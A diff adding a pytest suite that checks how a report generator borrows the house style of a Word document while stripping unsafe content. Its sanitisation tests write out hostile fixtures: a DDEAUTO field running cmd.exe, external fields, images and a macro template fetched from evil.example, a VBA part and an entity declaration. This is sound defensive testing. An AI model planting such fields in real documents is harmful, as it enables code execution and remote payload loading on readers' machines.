@@ -1,0 +1,561 @@
+"""The house style: what a report takes from a document of the partnership's own, and what it leaves behind."""
+
+from __future__ import annotations
+
+import datetime
+import io
+import re
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import docx
+import pytest
+from docx.oxml.ns import qn
+from docx.shared import Mm, RGBColor
+
+from helpers import house_documents, office
+from helpers.house_documents import HEADINGS, TEXT, paragraph, png
+from helpers.office_packages import changed
+from ragsheets.errors import ReportError
+from ragsheets.report.house_style.look import ReportLook
+from ragsheets.report.house_style.style import HouseStyle, parse_house_style, read_house_style
+from ragsheets.report.write import word
+from ragsheets.report.write.content import (
+    ActionTable,
+    GroupSection,
+    OutcomeBlock,
+    ReportCell,
+    ReportContent,
+    StatusCount,
+    Summary,
+    SummaryRow,
+)
+from ragsheets.report.write.page import A4_LANDSCAPE
+from ragsheets.template.colour import MIN_CONTRAST, WHITE, contrast
+from ragsheets.template.model import Template, read_template
+
+DATE = datetime.date(2008, 9, 4)
+COUNTS = (
+    StatusCount("Green – on track", 3, "GREEN"),
+    StatusCount("Red – needs action", 1, "RED"),
+    StatusCount("Total", 4),
+)
+
+
+@pytest.fixture(scope="module")
+def template() -> Template:
+    return read_template("standard")
+
+
+@pytest.fixture(scope="module")
+def portrait() -> bytes:
+    return house_documents.by_python_docx()
+
+
+def content_of(template: Template) -> ReportContent:
+    rows = tuple(
+        (
+            ReportCell(f"{n}) Task"),
+            ReportCell("A target"),
+            ReportCell("A position"),
+            ReportCell("GREEN", "GREEN"),
+            ReportCell("A plan"),
+        )
+        for n in range(60)
+    )
+    block = OutcomeBlock("Outcome: 2.1: Peace", ("Date: 4th",), COUNTS, (ActionTable("Action: Act", rows),))
+    return ReportContent(
+        title="Progress",
+        partnership="Our Partnership",
+        period="Second quarter",
+        date="4th September 2008",
+        summary=Summary(
+            "All is well.", COUNTS, (SummaryRow("Parks", (3, 1, 4)), SummaryRow("All sub-groups", (3, 1, 4)))
+        ),
+        columns=template.columns,
+        sections=(GroupSection("Parks", "", (block,)), GroupSection("Health", "No update received.", ())),
+    )
+
+
+def style_of(content: bytes, template: Template) -> HouseStyle:
+    return parse_house_style(content, "house.docx", template.look)
+
+
+def dressed(content: bytes, template: Template) -> bytes:
+    dress = ReportLook(style_of(content, template))
+    return word.report_to_docx(content_of(template), template, created=DATE, report_look=dress)
+
+
+def opened(content: bytes) -> Any:
+    return docx.Document(io.BytesIO(content))
+
+
+def parts_of(content: bytes) -> dict[str, bytes]:
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
+
+
+def words_of(margin: Any) -> str:
+    return "".join(text.text or "" for text in margin._element.iter(qn("w:t"))).strip()
+
+
+# ---------------------------------------------------------------------------------------------- what it brings
+
+
+class TestWhatItBrings:
+    def test_fonts_colours_and_sizes(self, portrait: bytes, template: Template) -> None:
+        styles = opened(dressed(portrait, template)).styles
+        for name in ("Normal", "Title", "Heading 1", "Heading 2", "Heading 3"):
+            assert styles[name].font.name == "Georgia"
+            assert str(styles[name].font.color.rgb) == (TEXT if name == "Normal" else HEADINGS)
+        assert styles["Normal"].font.size.pt == 12
+
+    def test_the_tables_wear_them_too(self, portrait: bytes, template: Template) -> None:
+        made = opened(dressed(portrait, template))
+        cell = made.styles["Table Text"].font
+        assert (cell.name, cell.size.pt, str(cell.color.rgb)) == ("Georgia", 11, TEXT)
+        fills = made.tables[0]._tbl.xpath("w:tr[1]/w:tc[1]/w:tcPr/w:shd/@w:fill")
+        assert fills == [HEADINGS]
+
+    def test_the_statuses_keep_their_own_colours(self, portrait: bytes, template: Template) -> None:
+        made = opened(dressed(portrait, template))
+        fills = made.tables[-1]._tbl.xpath("w:tr[2]/w:tc[4]/w:tcPr/w:shd/@w:fill")
+        assert fills == [template.scale.by_code["GREEN"].fill]
+
+    @pytest.mark.parametrize("landscape", [False, True], ids=["portrait", "landscape"])
+    def test_the_page_and_its_margins(self, landscape: bool, template: Template) -> None:
+        section = opened(dressed(house_documents.by_python_docx(landscape=landscape), template)).sections[0]
+        size = (297, 210) if landscape else (210, 297)
+        assert (round(section.page_width.mm), round(section.page_height.mm)) == size
+        assert section.orientation == int(landscape)
+        margins = (section.left_margin, section.right_margin, section.top_margin, section.bottom_margin)
+        assert [round(margin.mm) for margin in margins] == [25, 25, 30, 22]
+
+    @pytest.mark.parametrize("landscape", [False, True], ids=["portrait", "landscape"])
+    def test_tables_and_chart_fit_its_text(self, landscape: bool, template: Template) -> None:
+        content = house_documents.by_python_docx(landscape=landscape)
+        width = style_of(content, template).page.text_width
+        body = opened(dressed(content, template)).element.body
+        widths = [int(table) for table in body.xpath("w:tbl/w:tblPr/w:tblW/@w:w")]
+        assert max(widths) == width
+        assert all(int(extent.get("cx")) <= width * 635 for extent in body.iter(qn("wp:extent")))
+
+    def test_a_gutter_is_no_room_for_text(self, template: Template) -> None:
+        content = house_documents.by_python_docx(change=lambda d: setattr(d.sections[0], "gutter", Mm(20)))
+        assert style_of(content, template).page.text_width == pytest.approx(140 / 25.4 * 1440, abs=2)
+
+    def test_headers_and_footers_with_their_pictures(self, portrait: bytes, template: Template) -> None:
+        made = dressed(portrait, template)
+        section = opened(made).sections[0]
+        assert words_of(section.header) == "Borough of Anytown"
+        assert words_of(section.footer) == "Anytown House, High Street"
+        (blip,) = section.header._element.iter(qn("a:blip"))
+        assert section.header.part.related_parts[blip.get(qn("r:embed"))].blob == png()
+
+    def test_a_first_page_of_its_own(self, template: Template) -> None:
+        section = opened(dressed(house_documents.by_python_docx(first_page=True), template)).sections[0]
+        assert section.different_first_page_header_footer
+        assert words_of(section.first_page_header) == "First page only"
+        assert words_of(section.first_page_footer) == "First footer"
+
+    def test_no_first_page_of_its_own_where_it_is_switched_off(self, template: Template) -> None:
+        def switch_off(document: Any) -> None:
+            document.sections[0].different_first_page_header_footer = False
+
+        made = dressed(house_documents.by_python_docx(first_page=True, change=switch_off), template)
+        assert b"First page only" not in b"".join(parts_of(made).values())
+
+    @pytest.mark.parametrize("on", [True, False])
+    def test_even_pages_of_their_own_where_they_are_switched_on(self, on: bool, template: Template) -> None:
+        def set_even(document: Any) -> None:
+            document.sections[0].even_page_header.paragraphs[0].text = "Even"
+            document.settings.odd_and_even_pages_header_footer = on
+
+        made = opened(dressed(house_documents.by_python_docx(change=set_even), template))
+        assert made.settings.odd_and_even_pages_header_footer is on
+        assert (words_of(made.sections[0].even_page_header) == "Even") is on
+
+    def test_the_report_s_own_footer_where_it_has_none(self, template: Template) -> None:
+        def clear(document: Any) -> None:
+            for margin in (document.sections[0].footer, document.sections[0].first_page_footer):
+                margin.paragraphs[0].text = ""
+
+        section = opened(dressed(house_documents.by_python_docx(first_page=True, change=clear), template)).sections[0]
+        for footer in (section.footer, section.first_page_footer):
+            assert words_of(footer).startswith("Progress · Second quarterPage 1 of")
+            kinds = footer._element.xpath("w:p/w:pPr/w:tabs/w:tab/@w:val")
+            assert kinds[-1] == "right" and set(kinds[:-1]) <= {"clear"}
+
+    def test_what_an_earlier_section_gives_to_the_last(self, template: Template) -> None:
+        content = house_documents.by_python_docx(change=lambda document: document.add_section())
+        assert words_of(opened(dressed(content, template)).sections[0].header) == "Borough of Anytown"
+
+    def test_styles_by_their_names_whatever_their_ids(self, portrait: bytes, template: Template) -> None:
+        ids = {"Heading1": "berschrift1", "Heading2": "berschrift2", "Normal": "Standard", "Title": "Titel"}
+
+        def localised(xml: str) -> str:
+            for old, new in ids.items():
+                xml = re.sub(rf'(w:styleId|w:val)="{old}"', rf'\1="{new}"', xml)
+            return xml.replace('<w:name w:val="Standard"/>', '<w:name w:val="Normal"/>').replace(
+                '<w:name w:val="Titel"/>', '<w:name w:val="Title"/>'
+            )
+
+        content = changed(portrait, {"word/styles.xml": localised, "word/document.xml": localised})
+        assert opened(content).styles["Heading 1"].style_id == "berschrift1"
+        made = opened(dressed(content, template))
+        assert str(made.styles["Heading 1"].font.color.rgb) == HEADINGS
+        assert made.styles["Heading 1"].style_id == "Heading1"
+        assert made.styles.default(1).name == "Normal"
+        assert b"berschrift" not in parts_of(dressed(content, template))["word/styles.xml"]
+
+    def test_fonts_and_colours_that_its_theme_names(self, template: Template) -> None:
+        document = docx.Document()  # whose headings are in the theme's colours and fonts
+        buffer = io.BytesIO()
+        document.save(buffer)
+        made = dressed(buffer.getvalue(), template)
+        styles = parts_of(made)["word/styles.xml"].decode()
+        assert not re.search(r"w:(theme|asciiTheme|hAnsiTheme|cstheme)", styles)
+        assert opened(made).styles["Heading 1"].font.name == "Calibri"
+        assert str(opened(made).styles["Heading 1"].font.color.rgb) == "365F91"
+
+
+# ------------------------------------------------------------------------------------------- what stays the report's
+
+
+class TestWhatStays:
+    def test_headings_keep_with_what_follows_and_have_their_levels(self, portrait: bytes, template: Template) -> None:
+        styles = opened(dressed(portrait, template)).styles
+        for level in (1, 2, 3):
+            style = styles[f"Heading {level}"]
+            assert style.paragraph_format.keep_with_next
+            assert style.element.xpath("w:pPr/w:outlineLvl/@w:val") == [str(level - 1)]
+
+    def test_it_is_british(self, portrait: bytes, template: Template) -> None:
+        styles = opened(dressed(portrait, template)).styles.element
+        assert styles.xpath("//w:lang/@w:val") == ["en-GB"]
+
+    def test_numbers_before_headings_and_page_breaks_stay_behind(self, template: Template) -> None:
+        def number(document: Any) -> None:
+            properties = document.styles["Heading 1"].element.get_or_add_pPr()
+            document.styles["Heading 1"].paragraph_format.page_break_before = True
+            properties.insert(0, paragraph('<w:pPr><w:numPr><w:numId w:val="3"/></w:numPr></w:pPr>').pPr[0])
+
+        made = opened(dressed(house_documents.by_python_docx(change=number), template))
+        style = made.styles["Heading 1"].element
+        assert not style.xpath("w:pPr/w:numPr | w:pPr/w:pageBreakBefore")
+
+    def test_bullets_are_bullets_where_the_house_has_none(self, template: Template) -> None:
+        def plain(document: Any) -> None:
+            properties = document.styles["List Bullet"].element.pPr
+            properties.remove(properties.numPr)
+
+        made = opened(dressed(house_documents.by_python_docx(change=plain), template))
+        assert made.styles["List Bullet"].element.xpath("w:pPr/w:numPr/w:numId/@w:val") == ["1"]
+
+    def test_every_style_named_is_there(self, portrait: bytes, template: Template) -> None:
+        made = dressed(portrait, template)
+        ids = {style.style_id for style in opened(made).styles}
+        for name, part in parts_of(made).items():
+            if name.startswith("word/") and name.endswith(".xml"):
+                used = re.findall(rb'<w:(?:pStyle|rStyle|tblStyle|basedOn|next|link) w:val="([^"]+)"', part)
+                assert {style.decode() for style in used} <= ids, name
+        names = [style.name.casefold() for style in opened(made).styles]
+        assert len(set(names)) == len(names)
+
+    def test_close_text_gets_room(self, tmp_path: Path, template: Template) -> None:
+        styles = opened(dressed(house_documents.by_libreoffice(tmp_path), template)).styles
+        assert styles["Normal"].paragraph_format.space_after.pt == 4
+        assert styles["Heading 1"].paragraph_format.space_before.pt == 12
+
+    def test_the_same_house_gives_the_same_bytes(self, portrait: bytes, template: Template) -> None:
+        assert dressed(portrait, template) == dressed(portrait, template)
+
+
+# ------------------------------------------------------------------------------------------------- what can be read
+
+
+class TestColoursThatCannotBeRead:
+    def test_a_pale_heading_is_set_in_the_text_s_ink_and_told(self, template: Template) -> None:
+        def pale(document: Any) -> None:
+            document.styles["Heading 1"].font.color.rgb = RGBColor.from_string("FFD700")
+
+        content = house_documents.by_python_docx(change=pale)
+        style = style_of(content, template)
+        assert any("FFD700" in warning and "Heading 1" in warning for warning in style.warnings)
+        made = opened(dressed(content, template))
+        assert str(made.styles["Heading 1"].font.color.rgb) == TEXT
+        assert b"FFD700" not in parts_of(dressed(content, template))["word/document.xml"]
+
+    def test_light_text_on_a_dark_band_stays(self, template: Template) -> None:
+        def band(document: Any) -> None:
+            style = document.styles["Heading 1"]
+            style.font.color.rgb = RGBColor.from_string("FFFFFF")
+            shade = paragraph(f'<w:pPr><w:shd w:val="clear" w:color="auto" w:fill="{HEADINGS}"/></w:pPr>').pPr[0]
+            style.element.pPr.find(qn("w:spacing")).addprevious(shade)
+
+        content = house_documents.by_python_docx(change=band)
+        assert not any("Heading 1" in warning for warning in style_of(content, template).warnings)
+        assert str(opened(dressed(content, template)).styles["Heading 1"].font.color.rgb) == WHITE
+
+    def test_pale_words_in_a_header_too(self, template: Template) -> None:
+        def pale(document: Any) -> None:
+            document.sections[0].header.paragraphs[0].runs[-1].font.color.rgb = RGBColor.from_string("CCCCCC")
+
+        content = house_documents.by_python_docx(change=pale)
+        assert any("CCCCCC" in warning for warning in style_of(content, template).warnings)
+        header = opened(dressed(content, template)).sections[0].header._element
+        assert all(contrast(ink, WHITE) >= MIN_CONTRAST for ink in header.xpath(".//w:color/@w:val"))
+
+
+# ---------------------------------------------------------------------------------------------- what stays behind
+
+_FIELD = (
+    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{code}</w:instrText></w:r>'
+    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{shown}</w:t></w:r>'
+    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+)
+
+
+def in_header(*xml: str) -> Callable[[Any], None]:
+    """A change that puts paragraphs of this WordprocessingML into the header."""
+
+    def change(document: Any) -> None:
+        for piece in xml:
+            document.sections[0].header._element.append(paragraph(piece))
+
+    return change
+
+
+class TestWhatStaysBehind:
+    def test_its_text(self, portrait: bytes, template: Template) -> None:
+        assert b"SECRET" not in b"".join(parts_of(dressed(portrait, template)).values())
+
+    def test_changes_and_comments(self, template: Template) -> None:
+        change = in_header(
+            '<w:ins w:id="1" w:author="x"><w:r><w:t>kept</w:t></w:r></w:ins>'
+            '<w:del w:id="2" w:author="x"><w:r><w:delText>SECRET</w:delText></w:r></w:del>'
+            '<w:commentRangeStart w:id="0"/><w:r><w:commentReference w:id="0"/></w:r>'
+        )
+        header = opened(dressed(house_documents.by_python_docx(change=change), template)).sections[0].header
+        xml = header._element.xml
+        assert "kept" in xml
+        assert not re.search(r"SECRET|<w:ins|<w:del|comment", xml)
+
+    @pytest.mark.parametrize(
+        ("code", "stays"),
+        [
+            (" PAGE ", True),
+            (" NUMPAGES \\* MERGEFORMAT", True),
+            (' INCLUDEPICTURE "http://evil.example/x.png" ', False),
+            (' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ', False),
+            (' HYPERLINK "http://evil.example" ', False),
+            (' IMPORT "x" ', False),
+        ],
+    )
+    def test_fields_that_reach_outside_but_not_what_they_showed(
+        self, code: str, stays: bool, template: Template
+    ) -> None:
+        simple = (
+            f'<w:fldSimple w:instr="{code.replace(chr(34), "&quot;")}"><w:r><w:t>shown too</w:t></w:r></w:fldSimple>'
+        )
+        change = in_header(_FIELD.format(code=code, shown="shown"), simple)
+        xml = opened(dressed(house_documents.by_python_docx(change=change), template)).sections[0].header._element.xml
+        assert "shown" in xml and "shown too" in xml
+        assert ("fldChar" in xml) is ("fldSimple" in xml) is stays
+        assert not re.search("evil|DDE|IMPORT", xml)
+
+    def test_links_and_linked_pictures(self, template: Template) -> None:
+        def link(document: Any) -> None:
+            header = document.sections[0].header
+            kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+            page = header.part.relate_to("http://evil.example/", f"{kind}hyperlink", is_external=True)
+            image = header.part.relate_to("http://evil.example/x.png", f"{kind}image", is_external=True)
+            text = "<w:r><w:t>linked words</w:t></w:r>"
+            header._element.append(paragraph(f'<w:hyperlink r:id="{page}">{text}</w:hyperlink>'))
+            run = header.paragraphs[0].add_run()
+            run.add_picture(io.BytesIO(png(colour=(0, 0, 255))))
+            blip = next(run._r.iter(qn("a:blip")))
+            blip.set(qn("r:link"), image)
+            del blip.attrib[qn("r:embed")]
+
+        made = dressed(house_documents.by_python_docx(change=link), template)
+        assert b"External" not in b"".join(parts_of(made).values())
+        header = opened(made).sections[0].header._element
+        assert "linked words" in header.xml
+        assert "hyperlink" not in header.xml
+        assert len(list(header.iter(qn("a:blip")))) == 1
+
+    def test_macros_templates_objects_and_other_parts(self, portrait: bytes, template: Template) -> None:
+        rels = (
+            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+            'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
+            "</Relationships>"
+        )
+        added = {
+            "word/vbaProject.bin": b"SECRET",
+            "word/embeddings/oleObject1.bin": b"SECRET",
+            "word/_rels/settings.xml.rels": rels.encode(),
+            "customXml/item9.xml": b"<secret/>",
+        }
+        parts = parts_of(dressed(changed(portrait, {}, added), template))
+        assert not [name for name in parts if re.search("vba|ole|customXml|settings.xml.rels", name)]
+        assert b"evil" not in b"".join(parts.values())
+
+    def test_pictures_of_kinds_that_nobody_vouches_for(self, portrait: bytes, template: Template) -> None:
+        picture = next(name for name in parts_of(portrait) if name.startswith("word/media/"))
+        buffer = io.BytesIO()
+        with zipfile.ZipFile(io.BytesIO(portrait)) as source, zipfile.ZipFile(buffer, "w") as archive:
+            for name in source.namelist():
+                archive.writestr(name, b"<svg/>" if name == picture else source.read(name))
+        style = style_of(buffer.getvalue(), template)
+        assert all(not margin.pictures for margin in style.headers_and_footers)
+        assert any(Path(picture).name in warning for warning in style.warnings)
+        assert b"<w:drawing" not in b"".join(margin.xml for margin in style.headers_and_footers)
+
+    def test_pictures_without_words_are_said_to_tell_nothing(self, template: Template) -> None:
+        def describe(document: Any) -> None:
+            drawing = next(document.sections[0].footer._element.iter(qn("wp:docPr")), None)
+            assert drawing is None
+            document.sections[0].footer.paragraphs[0].add_run().add_picture(io.BytesIO(png()))
+            next(document.sections[0].footer._element.iter(qn("wp:docPr"))).set("descr", "The crest")
+
+        section = opened(dressed(house_documents.by_python_docx(change=describe), template)).sections[0]
+        silent, told = (next(margin._element.iter(qn("wp:docPr"))) for margin in (section.header, section.footer))
+        assert [each.get("val") for each in silent.iter("{*}decorative")] == ["1"]
+        assert (told.get("descr"), list(told.iter("{*}decorative"))) == ("The crest", [])
+        assert silent.get("id") != told.get("id")
+
+
+# -------------------------------------------------------------------------------------------- what cannot be used
+
+
+def truncated(content: bytes) -> bytes:
+    return content[: len(content) // 2]
+
+
+def with_entities(content: bytes) -> bytes:
+    bomb = '<!DOCTYPE x [<!ENTITY a "aaaa">]>'
+    return changed(content, {"word/styles.xml": lambda xml: re.sub(r"(\?>)", rf"\1{bomb}", xml, count=1)})
+
+
+def broken(content: bytes) -> bytes:
+    return changed(content, {"word/document.xml": lambda xml: xml[:-20]})
+
+
+def strict(content: bytes) -> bytes:
+    old, new = (
+        "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
+        "http://purl.oclc.org/ooxml/wordprocessingml/main",
+    )
+    return changed(content, {"word/document.xml": lambda xml: xml.replace(old, new)})
+
+
+def swollen(content: bytes) -> bytes:
+    return changed(content, {}, {"word/media/huge.bmp": bytes(300 * 1024 * 1024)})
+
+
+def with_two_parts_of_one_name(content: bytes) -> bytes:
+    return changed(content, {}, {"WORD/styles.xml": b"<a/>"})
+
+
+class TestWhatCannotBeUsed:
+    @pytest.mark.parametrize(
+        ("spoil", "said"),
+        [
+            (lambda content: b"", "is no Word document"),
+            (lambda content: b"some text", "is no Word document"),
+            (lambda content: b"%PDF-1.4", "is no Word document"),
+            (truncated, "damaged"),
+            (with_entities, "holds what no document needs"),
+            (broken, "damaged"),
+            (strict, "strict"),
+            (swollen, "larger than any document"),
+            (with_two_parts_of_one_name, "damaged"),
+        ],
+    )
+    def test_it_is_named_with_what_is_wrong(
+        self, spoil: Callable[[bytes], bytes], said: str, portrait: bytes, template: Template
+    ) -> None:
+        with pytest.raises(ReportError, match=said) as raised:
+            style_of(spoil(portrait), template)
+        (problem,) = raised.value.problems
+        assert problem.where == "house.docx"
+        assert problem.fix
+
+    def test_a_file_that_is_not_there(self, tmp_path: Path, template: Template) -> None:
+        with pytest.raises(ReportError, match="there is no such file") as raised:
+            read_house_style(tmp_path / "gone.docx", template.look)
+        assert "gone.docx" in str(raised.value)
+
+    def test_a_page_with_no_room(self, template: Template) -> None:
+        content = house_documents.by_python_docx(change=lambda d: setattr(d.sections[0], "left_margin", Mm(150)))
+        with pytest.raises(ReportError, match="too little room"):
+            style_of(content, template)
+
+    @pytest.mark.parametrize("gone", ["styles", "theme", "settings", "header1", "media/image1"])
+    def test_a_document_that_lacks_a_part_is_used_without_it(
+        self, gone: str, portrait: bytes, template: Template
+    ) -> None:
+        buffer = io.BytesIO()
+        with zipfile.ZipFile(io.BytesIO(portrait)) as source, zipfile.ZipFile(buffer, "w") as archive:
+            for name in source.namelist():
+                if gone not in name or name.endswith(".rels"):
+                    archive.writestr(name, source.read(name))
+        assert opened(dressed(buffer.getvalue(), template)).paragraphs[0].text == "Progress"
+
+    def test_a_document_without_a_section_takes_the_usual_page(self, portrait: bytes, template: Template) -> None:
+        bare = changed(
+            portrait, {"word/document.xml": lambda xml: re.sub(r"<w:sectPr.*?</w:sectPr>", "", xml, flags=re.DOTALL)}
+        )
+        assert style_of(bare, template).page == A4_LANDSCAPE
+
+    @pytest.mark.parametrize("value", ["", "ZZZZZZ", "-5", "abc", "99999999999", "nan"])
+    @pytest.mark.parametrize("attribute", ["val", "fill", "w", "h", "pos", "after", "styleId", "type", "id", "ascii"])
+    def test_senseless_values_do_no_harm(self, attribute: str, value: str, portrait: bytes, template: Template) -> None:
+        def spoil(xml: str) -> str:
+            return re.sub(rf'(w:(?:{attribute}|{attribute}Tint))="[^"]*"', rf'\1="{value}"', xml)
+
+        parts = [name for name in parts_of(portrait) if re.fullmatch(r"word/(styles|document|header1)\.xml", name)]
+        try:
+            made = dressed(changed(portrait, dict.fromkeys(parts, spoil)), template)
+        except ReportError as error:
+            assert error.problems[0].where == "house.docx"
+        else:
+            assert opened(made).paragraphs[0].text == "Progress"
+
+
+# ------------------------------------------------------------------------------------------------- in real programs
+
+
+def houses(folder: Path) -> dict[str, bytes]:
+    return {
+        "python-docx, portrait": house_documents.by_python_docx(),
+        "python-docx, landscape": house_documents.by_python_docx(landscape=True, first_page=True),
+        "LibreOffice, portrait": house_documents.by_libreoffice(folder),
+        "LibreOffice, landscape": house_documents.by_libreoffice(folder, landscape=True),
+    }
+
+
+def test_reports_in_every_house_pass_office_s_own_rules(tmp_path: Path, template: Template) -> None:
+    for name, content in houses(tmp_path).items():
+        path = tmp_path / "report.docx"
+        path.write_bytes(dressed(content, template))
+        assert office.faults(path) == [], name
+
+
+@pytest.mark.parametrize("landscape", [False, True], ids=["portrait", "landscape"])
+def test_a_libreoffice_house_is_shown_on_every_page(landscape: bool, tmp_path: Path, template: Template) -> None:
+    content = house_documents.by_libreoffice(tmp_path, landscape=landscape)
+    assert style_of(content, template).warnings == ()
+    path = tmp_path / "report.docx"
+    path.write_bytes(dressed(content, template))
+    pages = office.pdf_text(office.to_pdf(path, tmp_path)).split("\f")[:-1]
+    assert "First page only" in pages[0] and "First footer" in pages[0]
+    for number, page in enumerate(pages[1:], 2):
+        assert "Borough of Anytown" in page
+        assert f"Sheet {number}" in page
+    assert "SECRET" not in "".join(pages)
+    assert [f"{n}) Task" for n in range(60)] == re.findall(r"\d+\) Task", "".join(pages))
